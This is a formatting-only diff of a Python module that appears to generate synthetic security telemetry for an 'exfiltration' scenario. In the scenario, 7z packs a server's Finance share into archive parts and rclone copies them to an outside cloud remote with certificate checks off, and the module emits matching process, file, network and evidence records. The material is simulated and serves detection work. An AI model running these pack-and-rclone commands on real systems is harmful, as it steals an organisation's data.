@@ -2,7 +2,8 @@
 # GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""Story ``exfiltration``: a share is packed and copied with rclone to somebody else's cloud storage."""
+"""Story ``exfiltration``: a share is packed and copied with rclone to somebody else's cloud
+storage."""
 
 from __future__ import annotations
 
@@ -29,24 +30,56 @@ def tell(scene: Scene, known: Indicators, begin: datetime) -> Chapter:
     console = start("cmd.exe", "cmd.exe", at, user, pid=scene.pid(), parent=desktop)
     scene.run(at, device, console, desktop)
     at += timedelta(minutes=3)
-    packer = start("7z.exe", f'7z.exe a -mx1 -v500m "{temp}\\w.7z" "\\\\{scene.servers[0].name}\\Finance\\*"', at, user, pid=scene.pid(), parent=console)
+    packer = start(
+        "7z.exe",
+        f'7z.exe a -mx1 -v500m "{temp}\\w.7z" "\\\\{scene.servers[0].name}\\Finance\\*"',
+        at,
+        user,
+        pid=scene.pid(),
+        parent=console,
+    )
     scene.run(at, device, packer, console)
     for part in range(1, 5):
         at += timedelta(minutes=2)
         name = f"w.7z.{part:03d}"
-        packed = {"FileName": name, "FolderPath": f"{temp}\\{name}", "FileSize": 524_288_000, "SHA256": sha256(f"{scene.tenant_id}{name}")}
+        packed = {
+            "FileName": name,
+            "FolderPath": f"{temp}\\{name}",
+            "FileSize": 524_288_000,
+            "SHA256": sha256(f"{scene.tenant_id}{name}"),
+        }
         scene.on_device("DeviceFileEvents", at, device, packer, "FileCreated", **packed)
     at += timedelta(minutes=4)
-    command = f'rclone.exe copy "{temp}" {facts.remote} --include "*.7z.*" --transfers 8 --no-check-certificate'
-    rclone = start("rclone.exe", command, at, user, pid=scene.pid(), folder=temp, image=facts.rclone_image, parent=console)
+    command = (
+        f'rclone.exe copy "{temp}" {facts.remote} --include "*.7z.*" --transfers 8'
+        " --no-check-certificate"
+    )
+    rclone = start(
+        "rclone.exe",
+        command,
+        at,
+        user,
+        pid=scene.pid(),
+        folder=temp,
+        image=facts.rclone_image,
+        parent=console,
+    )
     scene.run(at, device, rclone, console)
     for transfer in range(10):
-        scene.connect(at + timedelta(seconds=20 + 45 * transfer), device, rclone, facts.storage_ip, facts.storage_domain)
+        scene.connect(
+            at + timedelta(seconds=20 + 45 * transfer),
+            device,
+            rclone,
+            facts.storage_ip,
+            facts.storage_domain,
+        )
     found = (
         evidence.device(device, at),
         evidence.user(user, at),
         evidence.process(rclone, device, at, "malicious"),
-        evidence.file("rclone.exe", temp, facts.rclone_sha256, rclone.sha1, device, at, "suspicious"),
+        evidence.file(
+            "rclone.exe", temp, facts.rclone_sha256, rclone.sha1, device, at, "suspicious"
+        ),
         evidence.ip(facts.storage_ip, at),
         evidence.url(f"https://{facts.storage_domain}", at, "suspicious"),
     )
